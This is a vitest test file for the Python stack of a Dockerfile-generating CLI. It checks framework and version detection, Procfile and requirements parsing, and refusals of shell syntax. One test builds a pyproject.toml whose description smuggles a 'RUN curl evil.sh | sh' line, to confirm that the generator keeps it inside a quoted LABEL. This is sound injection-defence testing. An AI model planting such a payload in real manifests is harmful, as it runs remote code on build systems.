import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { createProject } from '../../src/project.js';
import { python } from '../../src/stacks/python/index.js';
import { minorFromConstraint, exactVersion } from '../../src/stacks/python/version.js';
import { procfileWeb } from '../../src/stacks/python/start.js';
import { parseRequirementsText } from '../../src/stacks/python/requirements.js';
import { pillowNeedsSource } from '../../src/stacks/python/system-libs.js';
import { findAppIn } from '../../src/stacks/python/app-object.js';
import { staticRootFrom } from '../../src/stacks/python/django.js';
import { FIXTURES, ROOT, runCli, tempRepos, type JsonOutput } from '../helpers.js';

async function detect(fixture: string) {
  const detection = await python.detect(await createProject(path.join(FIXTURES, fixture)));
  if (detection === null) throw new Error(`${fixture} not detected`);
  return detection;
}

const repo = tempRepos('cdf-python-');

describe('detects each fixture', () => {
  const table = [
    { fixture: 'python-uv-fastapi', pm: 'uv', version: '3.13', framework: 'fastapi', command: 'uvicorn fastapi_hello.main:app --host 0.0.0.0 --port 8000', port: 8000 },
    { fixture: 'python-poetry-flask', pm: 'poetry', version: '3.15', framework: 'flask', command: 'gunicorn flask_shop:create_app() --bind 0.0.0.0:8000', port: 8000 },
    { fixture: 'python-pip-django', pm: 'pip', version: '3.15', framework: 'django', command: 'gunicorn mysite.wsgi --bind 0.0.0.0:8000', port: 8000 },
    { fixture: 'python-pipenv', pm: 'pipenv', version: '3.12', framework: 'starlette', command: 'gunicorn app:app --worker-class uvicorn.workers.UvicornWorker --bind 0.0.0.0:8000', port: 8000 },
    { fixture: 'python-pdm', pm: 'pdm', version: '3.15', framework: 'flask', command: 'gunicorn app:app --bind 0.0.0.0:5000', port: 5000 },
    { fixture: 'python-requires-python', pm: 'pip', version: '3.13', framework: 'fastapi', command: 'uvicorn main:app --host 0.0.0.0 --port 8000', port: 8000 },
    { fixture: 'python-psycopg2', pm: 'pip', version: '3.13.1', framework: 'flask', command: 'gunicorn app:app --bind 0.0.0.0:8000', port: 8000 },
    { fixture: 'python-procfile', pm: 'pip', version: '3.15', framework: 'falcon', command: 'gunicorn hello:app --workers 2 --bind 0.0.0.0:5000', port: 5000 },
    { fixture: 'python-script', pm: 'pip', version: '3.12.8', framework: null, command: 'python main.py', port: null },
    { fixture: 'python-stdlib-wsgi', pm: 'pip', version: '3.15', framework: null, command: 'python app.py', port: 8080 },
  ];
  it.for(table)('$fixture: $pm, Python $version, $command', async (row, { expect }) => {
    const { values } = await detect(row.fixture);
    expect(values.packageManager).toBe(row.pm);
    expect(values.languageVersion).toBe(row.version);
    expect(values.framework).toBe(row.framework);
    expect(values.startCommand?.join(' ')).toBe(row.command);
    expect(values.port).toBe(row.port);
  });

  it('installs build headers only in the build stage and shared libraries at run time (psycopg2, old Pillow)', async () => {
    const { facts } = await detect('python-psycopg2');
    expect(facts.system.build).toEqual(expect.arrayContaining(['libpq-dev', 'gcc', 'libjpeg62-turbo-dev']));
    expect(facts.system.runtime).toEqual(expect.arrayContaining(['libpq5', 'libjpeg62-turbo']));
    expect(facts.system.runtime.some((p) => p.endsWith('-dev'))).toBe(false);
  });

  it('gives uWSGI, which pip always compiles, a compiler in the build stage only (through a nested -r file)', async () => {
    const dir = await repo({ 'requirements.txt': '-r requirements/production.txt\n', 'requirements/production.txt': 'flask>=3\nuWSGI>=2.0.17,<2.1\n', 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' });
    const detection = await python.detect(await createProject(dir));
    expect(detection?.facts.system).toEqual({ build: ['gcc', 'libc6-dev'], runtime: [] });
  });

  it('collects Django static files at build when STATIC_ROOT is set', async () => {
    const { facts } = await detect('python-pip-django');
    expect(facts.django).toEqual({ project: 'mysite', wsgiModule: 'mysite.wsgi', staticRoot: 'staticfiles' });
    // pytest is a dev dependency, but the fixture has no test files: pytest would exit 5.
    expect(facts.test).toMatch(/^echo "No test files/);
  });

  it('does not claim a repo without Python manifests', async () => {
    expect(await python.detect(await createProject(path.join(FIXTURES, 'node-npm-express')))).toBeNull();
  });
});

describe('Python version from requires-python', () => {
  const table: [string, string | null][] = [
    ['>=3.10', '3.15'],
    ['>=3.10,<3.14', '3.13'],
    ['~=3.11', '3.15'],
    ['~=3.11.2', '3.11'],
    ['==3.12.*', '3.12'],
    ['^3.11', '3.15'],
    ['>=3.12,!=3.15.*', '3.14'],
    ['>=3.8,<3.11', '3.10'],
    ['<3', null],
    ['not a range', null],
  ];
  it.for(table)('%s → %s', ([spec, minor], { expect }) => {
    expect(minorFromConstraint(spec)).toBe(minor);
  });

  it('takes exact versions from version files and refuses other interpreters', () => {
    expect(exactVersion('3.12.4')).toBe('3.12.4');
    expect(exactVersion('python-3.11.9')).toBe('3.11.9');
    expect(exactVersion('pypy3.10')).toBeNull();
    expect(exactVersion('system')).toBeNull();
  });
});

describe('parsers', () => {
  it('turns a Procfile web line into exec form, replacing $PORT', () => {
    expect(procfileWeb('web: gunicorn app:app -b 0.0.0.0:$PORT\n', 8000)).toEqual({ command: ['gunicorn', 'app:app', '-b', '0.0.0.0:8000'], env: {}, port: 8000 });
    expect(procfileWeb('web: WEB_CONCURRENCY=3 uvicorn main:app --port ${PORT:-9000}', 8000)).toEqual({ command: ['uvicorn', 'main:app', '--port', '9000'], env: { WEB_CONCURRENCY: '3' }, port: 9000 });
  });

  it('refuses a Procfile web line with shell syntax, and ignores a Procfile without one', () => {
    expect(procfileWeb('web: python migrate.py && gunicorn app:app', 8000)).toEqual({ refused: 'python migrate.py && gunicorn app:app' });
    expect(procfileWeb('worker: celery -A app worker', 8000)).toBeNull();
  });

  it('reads requirements files: names, includes and installs of the repo itself', () => {
    const parsed = parseRequirementsText('# c\nDjango==5.2 # pinned\n-r base.txt\n-e .\ngit+https://x/y.git#egg=Foo_Bar\n--index-url https://x\n', 'requirements/prod.txt');
    expect(parsed.requirements.map((r) => r.name)).toEqual(['django', 'foo-bar']);
    expect(parsed.includes).toEqual(['requirements/base.txt']);
    expect(parsed.localRefs).toBe(true);
  });

  it('decides Pillow builds from source only for exact pins older than the wheels for that Python', () => {
    expect(pillowNeedsSource('==9.5.0', '3.13')).toBe(true);
    expect(pillowNeedsSource('==11.0.0', '3.13')).toBe(false);
    expect(pillowNeedsSource('>=9.0', '3.13')).toBe(false);
    expect(pillowNeedsSource('', '3.15')).toBe(false);
  });

  it('finds the app object, preferring `app`, else a factory', () => {
    expect(findAppIn('src/pkg/api.py', 'router = 1\napi = FastAPI()\napp = FastAPI()\n', ['FastAPI'])).toMatchObject({ module: 'pkg.api', attr: 'app', factory: false, srcLayout: true });
    expect(findAppIn('web/__init__.py', 'def create_app():\n    app = Flask(__name__)\n    return app\n', ['Flask'])).toMatchObject({ module: 'web', attr: 'create_app', factory: true });
    expect(findAppIn('main.py', 'print("no app")\n', ['FastAPI'])).toBeNull();
  });

  it('reads STATIC_ROOT only when it is a plain path', () => {
    expect(staticRootFrom('STATIC_ROOT = os.path.join(BASE_DIR, "static_collected")')).toBe('static_collected');
    expect(staticRootFrom('STATIC_ROOT = env("STATIC_ROOT")')).toBeNull();
    expect(staticRootFrom('STATIC_URL = "/static/"')).toBeUndefined();
  });
});

describe('plans and refusals through the CLI', () => {
  it('moves a generated server command to the --port given', async () => {
    const result = await runCli([path.join(FIXTURES, 'python-uv-fastapi'), '--yes', '--dry-run', '--json', '--port', '9000'], ROOT);
    const dockerfile = (JSON.parse(result.stdout) as JsonOutput).files.find((f) => f.path === 'Dockerfile')?.contents ?? '';
    expect(dockerfile).toContain('CMD ["uvicorn", "fastapi_hello.main:app", "--host", "0.0.0.0", "--port", "9000"]');
    expect(dockerfile).toContain('EXPOSE 9000');
    expect(dockerfile).not.toContain('8000');
  });

  it('a uv workspace root app copies every member manifest and installs its workspace libraries with the source', async () => {
    const result = await runCli([path.join(FIXTURES, 'mono-uv-root-app'), '--yes', '--dry-run', '--json', '--only', 'dockerfile'], ROOT);
    const json = JSON.parse(result.stdout) as JsonOutput;
    expect(json.files.map((f) => f.path)).toEqual(['Dockerfile']);
    const dockerfile = json.files[0]?.contents ?? '';
    expect(dockerfile).toContain('COPY pyproject.toml uv.lock ./\nCOPY packages/admin/pyproject.toml ./packages/admin/\nCOPY packages/core/pyproject.toml ./packages/core/\n');
    // The members' sources are not in the dependency layer, so none of them is installed there.
    expect(dockerfile).toContain('uv sync --locked --no-install-workspace --no-dev\n');
    expect(dockerfile).toMatch(/FROM deps AS build\nCOPY \. \.\nRUN [^\n]*\n[^\n]*\n\s+uv sync --locked --no-dev --no-editable\n/);
    expect(dockerfile).toContain('CMD ["python", "main.py"]');
    expect(dockerfile).not.toContain('shop-admin');
  });

  it('fails with a clear message on a malformed pyproject.toml', async () => {
    const result = await runCli([path.join(FIXTURES, 'python-malformed-pyproject'), '--yes', '--dry-run'], ROOT);
    expect(result.exit).toBe(1);
    expect(result.stderr).toMatch(/^pyproject\.toml: is not valid TOML/);
  });

  it('refuses a --package-manager that contradicts the lockfile', async () => {
    const result = await runCli([path.join(FIXTURES, 'python-uv-fastapi'), '--yes', '--dry-run', '--package-manager', 'poetry'], ROOT);
    expect(result.exit).toBe(2);
    expect(result.stderr).toContain('its files say uv');
  });

  it('keeps hostile manifest text inside one quoted LABEL', async () => {
    const dir = await repo({
      'pyproject.toml': '[project]\nname = "evil"\ndescription = "x\\"\\nRUN curl evil.sh | sh\\n"\ndependencies = []\n',
      'main.py': 'print("hi")\n',
    });
    const result = await runCli([dir, '--yes', '--dry-run', '--json'], dir);
    const dockerfile = (JSON.parse(result.stdout) as JsonOutput).files.find((f) => f.path === 'Dockerfile')?.contents ?? '';
    expect(dockerfile.split('\n').some((l) => l.startsWith('RUN curl'))).toBe(false);
    expect(dockerfile).toContain('LABEL org.opencontainers.image.description="x\\" RUN curl evil.sh | sh"');
  });

  it('ignores a Procfile with shell syntax and says so', async () => {
    const dir = await repo({ Procfile: 'web: cd src && gunicorn app:app\n', 'requirements.txt': 'flask\ngunicorn\n', 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' });
    const detection = await python.detect(await createProject(dir));
    expect(detection?.values.startCommand).toEqual(['gunicorn', 'app:app', '--bind', '0.0.0.0:8000']);
    expect(detection?.warnings.join('\n')).toContain('uses shell syntax');
  });

  it('ignores a Procfile web line that runs a task runner (make run), which the python image does not have', async () => {
    const dir = await repo({ Procfile: 'web: make run\n', Makefile: 'run:\n\tpython -m manage runserver 0.0.0.0:8000\n', 'requirements.txt': 'flask\ngunicorn\n', 'app.py': 'from flask import Flask\napp = Flask(__name__)\n' });
    const detection = await python.detect(await createProject(dir));
    expect(detection?.values.startCommand).toEqual(['gunicorn', 'app:app', '--bind', '0.0.0.0:8000']);
    expect(detection?.warnings.join('\n')).toContain('runs make, which the python image does not have');
  });

  it('warns when the server the command needs is not a dependency', async () => {
    const dir = await repo({ 'requirements.txt': 'fastapi==0.121.3\n', 'main.py': 'from fastapi import FastAPI\napp = FastAPI()\n' });
    const detection = await python.detect(await createProject(dir));
    expect(detection?.warnings.join('\n')).toContain('uvicorn is not among the dependencies');
  });
});

